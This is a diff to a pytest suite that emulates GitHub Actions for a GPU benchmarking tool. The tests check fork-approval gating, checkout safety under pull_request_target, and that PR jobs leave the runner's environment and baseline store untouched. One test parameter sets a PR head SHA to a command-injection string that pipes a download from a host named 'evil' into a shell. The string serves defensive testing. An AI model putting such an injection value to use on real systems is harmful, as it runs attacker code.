@@ -2,12 +2,14 @@
 
 A temporary git repository is built from the project's tracked files: a bare ``origin`` holding
 ``main`` (the base commit) and a PR head commit. The benchmark job's ``actions/checkout`` is emulated
-by cloning that origin with full history and detaching at the head SHA, exactly what the action
-does with ``fetch-depth: 0``; every ``run:`` step then executes with bash, in order, with the
-runner's files (``GITHUB_OUTPUT``, ``GITHUB_ENV``, ``GITHUB_PATH``, ``GITHUB_STEP_SUMMARY``,
-``GITHUB_EVENT_PATH``). The "runner's prepared Python environment" is a fresh virtual environment
-that sees this interpreter's packages (torch etc.) through a ``.pth`` file, so the workflow's own
-``pip install -e .`` runs for real without touching the shared environment.
+by cloning that origin with full history into the step's ``path`` and detaching at its ``ref``,
+exactly what the action does with ``fetch-depth: 0``; every ``run:`` step then executes with bash,
+in order, with the runner's files (``GITHUB_OUTPUT``, ``GITHUB_ENV``, ``GITHUB_PATH``,
+``GITHUB_STEP_SUMMARY``, ``GITHUB_EVENT_PATH``). The "runner's prepared Python environment" is a
+fresh virtual environment that sees this interpreter's packages (torch etc.) through a ``.pth``
+file; the workflow installs perfguard from the base branch into a virtualenv of its own, for real,
+and the tests check that the prepared environment, the runner's baseline store and the runner's
+temporary directory are as they were afterwards (the trust model of docs/ci.md).
 
 ``gh`` (the GitHub CLI the comment and fork-approval jobs call) is replaced by a small script that
 serves the uploaded artifacts from a directory and records API calls; GitHub itself cannot be
@@ -16,6 +18,7 @@ reached from here.
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import shutil
@@ -37,6 +40,7 @@ from test_workflows_emulator import (
 )
 
 from perfguard.github import MARKER
+from perfguard.store import Store
 
 REPO = "octo/perfguard"
 PR_NUMBER = 12
@@ -202,8 +206,11 @@ def origin(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
 
 @pytest.fixture(scope="module")
 def runner_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """The GPU runner's persistent store directory (its .env's PERFGUARD_DB), shared by its jobs."""
-    return tmp_path_factory.mktemp("runner-store")
+    """The GPU runner's persistent store directory (its .env's PERFGUARD_DB), shared by its jobs:
+    a store that exists (PR jobs open it read-only, which never creates one) and has no baselines."""
+    directory = tmp_path_factory.mktemp("runner-store")
+    Store.open(f"sqlite:///{directory / 'history.db'}").close()
+    return directory
 
 
 def pr_event(
@@ -214,13 +221,17 @@ def pr_event(
     label: str | None = None,
     draft: bool = False,
     base_ref: str = "main",
+    sender: str = "maintainer",
+    author: str = "contributor",
 ) -> dict[str, Any]:
     event: dict[str, Any] = {
         "action": action,
         "number": PR_NUMBER,
+        "sender": {"login": sender},
         "pull_request": {
             "number": PR_NUMBER,
             "draft": draft,
+            "user": {"login": author},
             "head": {
                 "sha": head_sha,
                 "ref": "feature",
@@ -241,7 +252,7 @@ def make_runner(tmp: Path, event: dict[str, Any], *, vars: dict[str, str] | None
     return Runner(
         workspace=tmp / "work",
         home=tmp / "runner",
-        event_name=kw.pop("event_name", "pull_request"),
+        event_name=kw.pop("event_name", "pull_request_target"),
         event=event,
         repository=REPO,
         sha=kw.pop("sha", (pr.get("head") or {}).get("sha", "0" * 40)),
@@ -288,6 +299,19 @@ FORK = "mallory/perfguard"
             pr_event(SHA, action="labeled", head_repo=FORK, label="docs"), False, id="fork other label"
         ),
         pytest.param(
+            pr_event(
+                SHA,
+                action="labeled",
+                head_repo=FORK,
+                label="safe-to-bench",
+                sender="mallory",
+                author="mallory",
+            ),
+            False,
+            id="fork labelled by its own author",
+        ),
+        pytest.param(pr_event("main; curl evil | sh", action="opened"), False, id="no plausible head commit"),
+        pytest.param(
             pr_event(SHA, action="labeled", head_repo=None, label="safe-to-bench"),
             True,
             id="deleted fork approved",
@@ -297,10 +321,13 @@ FORK = "mallory/perfguard"
 def test_gate_decides_per_event(event: dict[str, Any], runs: bool, tmp_path: Path) -> None:
     gate = run_gate(tmp_path, event)
     assert gate.outcome == "success", gate.log
-    assert gate.outputs == {"run": "true" if runs else "false", "sha": SHA}
+    assert gate.outputs == {"run": "true" if runs else "false", "sha": event["pull_request"]["head"]["sha"]}
     assert "### perfguard GPU gate" in gate.summary
-    if not runs and event["pull_request"]["head"]["repo"] != {"full_name": REPO}:
+    fork = event["pull_request"]["head"]["repo"] != {"full_name": REPO}
+    if not runs and fork and event["sender"]["login"] != event["pull_request"]["user"]["login"]:
         assert "add it again" in gate.summary  # tells the maintainer what to do
+    if not runs and fork and event["sender"]["login"] == event["pull_request"]["user"]["login"]:
+        assert "cannot approve itself" in gate.summary
     if not runs:  # the GPU job does not start (the end-to-end tests below cover the other case)
         bench = make_runner(tmp_path / "b", event).run_job(
             load_workflow(WORKFLOWS / "perfguard-pr.yml"), "benchmark", needs_context(gate)
@@ -359,22 +386,33 @@ def test_fork_push_revokes_the_approval_label(
 # The benchmark job and the comment job, end to end
 
 
-def checkout_handler(origin_url: str, workspace: Path, *, full_history: bool = True) -> Any:
-    """actions/checkout: a clone of origin (all branches as origin/*), detached at ``ref``."""
+def checkout_handler(origin_url: str, workspace: Path, *, pr_head: str | None = None) -> Any:
+    """actions/checkout: a clone of origin (all branches as origin/*) in ``path``, detached at ``ref``.
+
+    ``pr_head``: the PR's head commit; checking it out needs full history (the merge-base) and,
+    under pull_request_target, checkout v7's explicit opt-in, as on GitHub.
+    """
 
     def handle(inputs: dict[str, Any], env: dict[str, str]) -> None:
         assert inputs.get("persist-credentials") is False
-        assert not workspace.exists() or not any(workspace.iterdir())
-        git(workspace.parent, "clone", "-q", "--no-checkout", origin_url, str(workspace))
+        target = workspace / str(inputs.get("path") or ".")
+        assert not target.exists() or not any(target.iterdir()), f"{target} is not empty"
+        target.parent.mkdir(parents=True, exist_ok=True)
+        git(target.parent, "clone", "-q", "--no-checkout", origin_url, str(target))
         ref = str(inputs.get("ref") or "main")
-        if full_history and inputs.get("fetch-depth", 1) != 0:
-            raise AssertionError("the benchmark needs full history (fetch-depth: 0)")
+        if ref == pr_head:
+            if inputs.get("fetch-depth", 1) != 0:
+                raise AssertionError("the benchmark needs full history (fetch-depth: 0)")
+            if env.get("GITHUB_EVENT_NAME") == "pull_request_target" and not inputs.get(
+                "allow-unsafe-pr-checkout"
+            ):
+                raise AssertionError("Refusing to check out fork pull request code (checkout v7)")
         git(
-            workspace,
+            target,
             "checkout",
             "-q",
             "--detach",
-            git(workspace, "rev-parse", f"origin/{ref}") if ref == "main" else ref,
+            git(target, "rev-parse", f"origin/{ref}") if ref == "main" else ref,
         )
 
     return handle
@@ -390,7 +428,7 @@ def run_pr_workflow(
     base_ref: str = "main",
     bench: str = BENCH_REGEX,
 ) -> dict[str, Any]:
-    """Gate, then the benchmark job on the 'GPU runner', then the comment job in dry-run mode."""
+    """Gate, the benchmark job on the 'GPU runner' of the PR pool, then the comment job (dry run)."""
     workflow = load_workflow(WORKFLOWS / "perfguard-pr.yml")
     event = pr_event(head, base_ref=base_ref)
     gate = run_gate(tmp / "gate", event)
@@ -400,6 +438,7 @@ def run_pr_workflow(
     runner = make_runner(
         tmp / "gpu",
         event,
+        sha=origin["base"],  # pull_request_target: the base branch's commit (this workflow's file)
         vars={
             "PERFGUARD_PYTHON": str(prepared_python),
             "PERFGUARD_PROFILE": "quick",
@@ -408,40 +447,29 @@ def run_pr_workflow(
         base_env={
             "PATH": os.environ["PATH"],
             "HOME": os.environ.get("HOME", str(tmp)),
-            # The runner's .env: where its store lives (docs/ci.md).
+            # The runner's .env: its baseline store, read-only to this job (docs/ci.md).
             "PERFGUARD_DB": f"sqlite:///{store}/history.db",
             "PIP_DISABLE_PIP_VERSION_CHECK": "1",
         },
     )
     runner.workspace.parent.mkdir(parents=True, exist_ok=True)
     runner.handlers = {
-        "actions/checkout": checkout_handler(origin["url"], runner.workspace),
+        "actions/checkout": checkout_handler(origin["url"], runner.workspace, pr_head=head),
         "actions/upload-artifact": copy_tree_handler(artifacts),
     }
+    prepared_before = _listing(prepared_python.parent.parent)
+    store_before = _store_state(store)
     bench_job = runner.run_job(workflow, "benchmark", needs_context(gate))
 
-    # The comment workflow, triggered by the completed run: its own machine, the default branch.
+    # The comment job of the same run: a GitHub-hosted machine, the base branch, the artifact as data.
     bindir, served, gh_log = fake_gh(tmp / "comment")
     if artifacts.exists():
         shutil.copytree(artifacts, served)
     plan_path = tmp / "comment-plan.json"
-    comment_event = {
-        "workflow_run": {
-            "id": 4242,
-            "event": "pull_request",
-            "html_url": f"https://github.com/{REPO}/actions/runs/4242",
-            "head_sha": head,
-            "head_branch": "feature",
-            "head_repository": {"full_name": REPO},
-        },
-        "repository": {"full_name": REPO, "default_branch": "main"},
-    }
     commenter = make_runner(
         tmp / "comment",
-        comment_event,
-        event_name="workflow_run",
+        event,
         sha=origin["base"],
-        ref="refs/heads/main",
         base_env={
             "PATH": f"{bindir}{os.pathsep}{os.environ['PATH']}",
             "FAKE_GH_ARTIFACTS": str(served),
@@ -449,17 +477,44 @@ def run_pr_workflow(
             "PERFGUARD_COMMENT_DRY_RUN": str(plan_path),
         },
     )
-    commenter.handlers = {
-        "actions/checkout": checkout_handler(origin["url"], commenter.workspace, full_history=False)
-    }
-    comment_job = commenter.run_job(load_workflow(WORKFLOWS / "perfguard-pr-comment.yml"), "comment")
+    commenter.handlers = {"actions/checkout": checkout_handler(origin["url"], commenter.workspace)}
+    comment_job = commenter.run_job(workflow, "comment", needs_context(gate, bench_job))
     plan = json.loads(plan_path.read_text()) if plan_path.exists() else None
     return {
         "job": bench_job,
         "artifact": artifacts / "perfguard-report",
         "comment_job": comment_job,
         "plan": plan,
+        "prepared_changed": _listing(prepared_python.parent.parent) != prepared_before,
+        "store_changed": _store_state(store) != store_before,
+        "runner_temp": sorted(p.name for p in (tmp / "gpu" / "runner").glob("_temp-benchmark-*/*")),
+        "workspace": sorted(p.name for p in runner.workspace.iterdir()) if runner.workspace.exists() else [],
     }
+
+
+def _listing(directory: Path) -> dict[str, tuple[int, int]]:
+    """Every file under ``directory`` with its size and modification time (what 'unchanged' means)."""
+    return {
+        str(p.relative_to(directory)): (p.stat().st_size, p.stat().st_mtime_ns)
+        for p in sorted(directory.rglob("*"))
+        if p.is_file()
+    }
+
+
+def _store_state(directory: Path) -> tuple[str | None, bool]:
+    """The runner's SQLite store as a writer would change it: the database's bytes, and whether its
+    write-ahead log holds anything (a read-only reader may leave empty -wal/-shm files behind)."""
+    database, wal = directory / "history.db", directory / "history.db-wal"
+    digest = hashlib.sha256(database.read_bytes()).hexdigest() if database.exists() else None
+    return digest, wal.exists() and wal.stat().st_size > 0
+
+
+def assert_isolated(run: dict[str, Any]) -> None:
+    """The trust model's promises about a PR job, checked on the machine after it ran."""
+    assert not run["prepared_changed"], "the PR job wrote into the runner's prepared Python environment"
+    assert not run["store_changed"], "the PR job changed the runner's baseline store"
+    assert "perfguard-job" not in run["runner_temp"], "the job's virtualenv and caches were left behind"
+    assert run["workspace"] == [], f"checkouts left in the workspace: {run['workspace']}"
 
 
 def annotations(job: JobResult) -> list[str]:
@@ -469,11 +524,16 @@ def annotations(job: JobResult) -> list[str]:
 def test_missing_baseline_branch_fails_with_a_message_and_still_reports(
     tmp_path: Path, origin: dict[str, Any], prepared_python: Path, runner_store: Path
 ) -> None:
-    """Exit 2 path: the job fails, says what to do, and the summary, artifact and comment say it too."""
-    run = run_pr_workflow(
-        tmp_path, origin, origin["clean"], prepared_python, runner_store, base_ref="release-9"
-    )
+    """Exit 2 path: the job fails, says what to do, and the summary, artifact and comment say it too.
+    (On a runner whose baseline snapshot does not exist yet: the job says so and goes on without.)"""
+    no_store = tmp_path / "no-store"
+    no_store.mkdir()
+    run = run_pr_workflow(tmp_path, origin, origin["clean"], prepared_python, no_store, base_ref="release-9")
     job: JobResult = run["job"]
+    store_step = job.step("Check the baseline store is out of this job's reach")
+    assert store_step.outcome == "success"
+    assert f"The baseline store {no_store}/history.db does not exist" in store_step.output
+    assert list(no_store.iterdir()) == []  # nothing created there
     assert job.outcome == "failure"
     assert job.step("Resolve the baseline branch").returncode == 2
     assert [job.step(n).outcome for n in ("perfguard verify", "perfguard check")] == ["skipped", "skipped"]
@@ -486,21 +546,28 @@ def test_missing_baseline_branch_fails_with_a_message_and_still_reports(
     )
 
     artifact = run["artifact"]
-    for name in ("comment.md", "pr.json", "baseline.log", "baseline.exit"):
+    for name in ("comment.md", "baseline.log", "baseline.exit"):
         assert (artifact / name).stat().st_size > 0, name
-    assert json.loads((artifact / "pr.json").read_text())["number"] == PR_NUMBER
+    assert not (artifact / "pr.json").exists()  # the PR number comes from the event, not the artifact
 
     assert run["comment_job"].outcome == "success", run["comment_job"].log
     assert run["plan"]["pr"] == PR_NUMBER and "origin/release-9" in run["plan"]["body"]
+    assert "GitHub reports the benchmark job as **failure**" in run["plan"]["body"]
+    assert_isolated(run)
 
 
 def _skip_until_built(job: JobResult) -> None:
     """perfguard verify/check land on main from other branches (issues 3 and 4); until then the
-    stubs exit 2 with "is not built yet" and the end-to-end verdicts cannot be checked."""
+    stubs exit 2 with "is not built yet" and the end-to-end verdicts cannot be checked. The same for
+    check's --untrusted/--results-db (issue 13, the lead's check orchestration)."""
     for name in ("perfguard verify", "perfguard check"):
         step = job.step(name)
         if "is not built yet" in step.output:
             pytest.skip(f"{name} is not built on this branch yet: {step.output.strip().splitlines()[0]}")
+        if "No such option" in step.output and (
+            "--untrusted" in step.output or "--results-db" in step.output
+        ):
+            pytest.skip(f"{name}: --untrusted/--results-db are not built on this branch yet (issue 13)")
 
 
 @pytest.mark.slow
@@ -509,16 +576,17 @@ def test_clean_head_passes_and_publishes_everything(
 ) -> None:
     run = run_pr_workflow(tmp_path, origin, origin["clean"], prepared_python, runner_store)
     job: JobResult = run["job"]
-    install = job.step("Install perfguard into the runner's Python environment")
+    install = job.step("Install perfguard from the base branch into the job's virtualenv")
     assert install.outcome == "success", install.output
     _skip_until_built(job)
     assert job.outcome == "success", job.log
     assert annotations(job) == []
     assert job.summary.startswith(MARKER)
-    for name in ("report.md", "report.html", "report.json", "verify.json", "comment.md", "pr.json"):
+    for name in ("report.md", "report.html", "report.json", "verify.json", "comment.md", "results.db"):
         assert (run["artifact"] / name).stat().st_size > 0, name
     assert run["comment_job"].outcome == "success", run["comment_job"].log
     assert run["plan"]["body"].startswith(MARKER)
+    assert_isolated(run)
 
 
 def test_wrong_head_fails_verification_before_anything_is_timed(
@@ -538,6 +606,7 @@ def test_wrong_head_fails_verification_before_anything_is_timed(
     assert "dilated" in job.summary
     assert (run["artifact"] / "verify.json").stat().st_size > 0
     assert run["plan"] is not None and "dilated" in run["plan"]["body"]
+    assert_isolated(run)
 
 
 @pytest.mark.slow
@@ -559,6 +628,7 @@ def test_regressing_head_fails_the_job_with_the_report_published(
     assert (run["artifact"] / "report.html").stat().st_size > 0
     assert "dilated" in job.summary
     assert run["plan"] is not None and "dilated" in run["plan"]["body"]
+    assert_isolated(run)
 
 
 # --------------------------------------------------------------------------------------------------
@@ -588,8 +658,12 @@ def test_baseline_workflow_records_renders_and_deploys(
             "PATH": os.environ["PATH"],
             "HOME": os.environ.get("HOME", str(tmp_path)),
             "PERFGUARD_DB": f"sqlite:///{store}/history.db",
+            # where PR runners read the baselines from (docs/ci.md, "Runner pools")
+            "PERFGUARD_BASELINE_SNAPSHOT": str(tmp_path / "published" / "baseline.db"),
         },
     )
+    (tmp_path / "published").mkdir()
+    prepared_before = _listing(prepared_python.parent.parent)
     runner.workspace.parent.mkdir(parents=True, exist_ok=True)
     runner.handlers = {
         "actions/checkout": checkout_handler(origin["url"], runner.workspace),
@@ -597,7 +671,7 @@ def test_baseline_workflow_records_renders_and_deploys(
         "actions/upload-artifact": copy_tree_handler(tmp_path / "artifacts"),
     }
     record = runner.run_job(workflow, "record")
-    assert record.step("Install perfguard into the runner's Python environment").outcome == "success"
+    assert record.step("Install perfguard into the job's virtualenv").outcome == "success", record.log
     deployed: list[dict[str, Any]] = []
     deployer = make_runner(tmp_path / "pages-runner", event, event_name="push", sha=origin["base"])
     deployer.handlers = {"actions/deploy-pages": lambda inputs, env: deployed.append(inputs)}
@@ -612,3 +686,11 @@ def test_baseline_workflow_records_renders_and_deploys(
     assert record.outcome == "success", record.log
     assert (pages / "github-pages" / "index.html").stat().st_size > 0
     assert deploy.outcome == "success" and deployed == [{}]
+    # The snapshot PR runners read: read-only, with this commit's runs.
+    snapshot = tmp_path / "published" / "baseline.db"
+    assert snapshot.stat().st_mode & 0o777 == 0o444
+    with Store.open(f"sqlite:///{snapshot}", read_only=True) as published:
+        assert any(m.key for m in published.machines())
+        assert published.distinct("impl") == ["dilated"]
+    assert _listing(prepared_python.parent.parent) == prepared_before  # nothing installed into it
+    assert not list(runner.home.glob("_temp-record-*/perfguard-venv"))  # removed by the last step
